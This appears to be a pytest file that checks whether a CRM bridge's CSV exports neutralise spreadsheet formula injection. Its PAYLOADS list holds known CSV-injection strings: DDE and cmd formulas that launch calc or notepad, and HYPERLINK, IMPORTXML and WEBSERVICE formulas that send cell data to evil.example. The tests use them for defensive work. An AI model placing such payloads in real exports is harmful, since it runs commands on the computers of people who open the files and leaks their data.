"""CSV injection: every CSV the product writes (intake rejects, the KPI report, reward statements,
the leaderboard) shows partner- and CRM-supplied text as text in a spreadsheet, while numbers stay
numbers. The corpus holds known payloads (OWASP CSV Injection, DDE and HYPERLINK exfiltration)."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest

from crm_bridge.config import parse_settings
from crm_bridge.domain.funnels import default_funnels, desired_layout
from crm_bridge.domain.model import Lead, Partner, StageKind
from crm_bridge.domain.period import Period
from crm_bridge.fake import FakeClock, FakeCRM
from crm_bridge.ports import Entity, RecordPage, SyncCursor
from crm_bridge.services.intake.csv_import import import_csv
from crm_bridge.services.intake.service import IntakeService
from crm_bridge.services.provision import provision
from crm_bridge.services.report.csv_table import report_csv
from crm_bridge.services.report.data import build_report
from crm_bridge.services.rewards import leaderboard_csv, rewards_for, statements_csv
from crm_bridge.store import Store, open_store

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!'B1'",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '  =IMPORTXML(CONCAT("http://evil.example/?",A2),"//a")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    "-1-1",
    "+ 5",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")
NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)$")
MSK = ZoneInfo("Europe/Moscow")
PORTAL = "fake:test"


def assert_no_formula(text: str, delimiter: str = ",") -> list[list[str]]:
    """Every cell a spreadsheet would evaluate is either a plain number or starts with an apostrophe."""
    rows = list(csv.reader(io.StringIO(text), delimiter=delimiter))
    for row in rows:
        for cell in row:
            head = cell.lstrip(" ")
            assert not head.startswith(TRIGGERS) or NUMBER.match(head), f"formula cell {cell!r} in {row}"
    return rows


def cells(rows: list[list[str]]) -> set[str]:
    return {cell for row in rows for cell in row}


# --- intake rejects --------------------------------------------------------------------------------


def test_every_payload_in_a_partner_csv_lands_in_the_rejects_file_as_text(
    tmp_path: Path, fake_clock: FakeClock
) -> None:
    crm = FakeCRM(clock=fake_clock)
    provision(crm, desired_layout(default_funnels(), "en", ["bronze", "gold"]))
    with open_store(f"sqlite:///{tmp_path / 'state.db'}") as store:
        path = tmp_path / "leads.csv"
        lines = ["partner_id;customer_name;email;phone;tax_id;amount;comment"]
        for payload in PAYLOADS:
            quoted = '"' + payload.replace('"', '""') + '"'
            lines.append(f"999;{quoted};x@example.ru;;;;{quoted}")  # unknown partner: rejected
        path.write_text("\r\n".join(lines) + "\r\n", encoding="utf-8")

        report = import_csv(path, IntakeService(crm, store, PORTAL), now=fake_clock())

    assert report.rejects_file is not None
    rows = assert_no_formula(report.rejects_file.read_text(encoding="utf-8-sig"), ";")
    names = [r[3] for r in rows[1:]]
    assert names == ["'" + p.strip() for p in PAYLOADS]  # as read (trimmed); the apostrophe hides
    assert [r[0] for r in rows[1:]] == [str(i) for i in range(2, 2 + len(PAYLOADS))]  # row numbers


# --- report, statements, leaderboard (CRM-supplied partner names) -------------------------------------

CONFIG: dict[str, Any] = {
    "timezone": "Europe/Moscow",
    "crm": {"kind": "bitrix24", "bitrix24": {"webhook_url": "${B24_WEBHOOK_URL}"}},
    "rewards": {
        "currency": "RUB",
        "rule_sets": [
            {
                "effective_from": "2026-01-01",
                "commission": {"by_tier": {"bronze": 5, "silver": 7, "gold": 10, "platinum": 12}},
                "points": {"per_won_deal": 10, "per_lead": 1, "revenue_unit": 100000},
            }
        ],
    },
}
ENV = {"B24_WEBHOOK_URL": "https://b24.example.ru/rest/1/abcdef123456/"}
Q4 = Period.parse("2026-Q4", MSK)


def at(day: str) -> datetime:
    return datetime.fromisoformat(day).replace(tzinfo=MSK).astimezone(UTC)


@pytest.fixture
def hostile_store(tmp_path: Path) -> Iterator[Store]:
    """Partners whose CRM names are the payloads, each with one won lead in 2026-Q4."""
    partners = [Partner(str(100 + i), p, tier="gold") for i, p in enumerate(PAYLOADS)]
    leads = [
        Lead(
            str(i),
            p.crm_id,
            PAYLOADS[i],
            "deal_closed",
            StageKind.WON,
            at("2026-10-01"),
            amount=Decimal(1000 * (i + 1)),
            closed_at=at("2026-10-20"),
            modified_at=at("2026-10-20") + timedelta(minutes=i),
        )
        for i, p in enumerate(partners)
    ]
    with open_store(f"sqlite:///{tmp_path / 'state.db'}") as store:
        cursor = SyncCursor(at("2026-12-31"), "")
        store.save_page(PORTAL, RecordPage(Entity.PARTNER, partners, cursor))
        store.save_page(PORTAL, RecordPage(Entity.LEAD, leads, cursor))
        yield store


def test_partner_names_from_the_crm_are_text_in_the_report_csv_and_its_numbers_stay_numbers(
    hostile_store: Store,
) -> None:
    settings = parse_settings(CONFIG, ENV)
    layout = desired_layout(default_funnels(), "en", ["bronze", "gold"])
    data = build_report(hostile_store, PORTAL, settings, layout, Q4, now=at("2027-01-02"))

    rows = assert_no_formula(report_csv(data))

    assert {"'" + p for p in PAYLOADS} <= cells(rows)
    revenue = [r[5] for r in rows if r[1] == "partner" and r[4] == "revenue"]
    assert sorted(Decimal(v) for v in revenue) == [Decimal(1000 * (i + 1)) for i in range(len(PAYLOADS))]


def test_reward_statements_and_the_leaderboard_show_hostile_partner_names_as_text(
    hostile_store: Store,
) -> None:
    result = rewards_for(parse_settings(CONFIG, ENV), hostile_store, PORTAL, Q4)

    statements = assert_no_formula(statements_csv(result))
    board = assert_no_formula(leaderboard_csv(result))

    assert {"'" + p for p in PAYLOADS} <= cells(statements)
    assert {"'" + p for p in PAYLOADS} <= cells(board)
    totals = [Decimal(r[9]) for r in statements[1:] if r[5] == "total"]
    assert sum(totals) == sum(Decimal(1000 * (i + 1)) for i in range(len(PAYLOADS))) / 10


def test_negative_amounts_and_plain_numbers_are_written_unchanged_for_bi_tools() -> None:
    from crm_bridge.security.csv_cells import safe_cell

    assert [safe_cell(v) for v in ("-1500.50", "+7", "-0.5", Decimal("-3"), -2, 1.5)] == [
        "-1500.50",
        "+7",
        "-0.5",
        Decimal("-3"),
        -2,
        1.5,
    ]
    assert [safe_cell(v) for v in ("-1500.50+A1", "--1", "- 1")] == ["'-1500.50+A1", "'--1", "'- 1"]
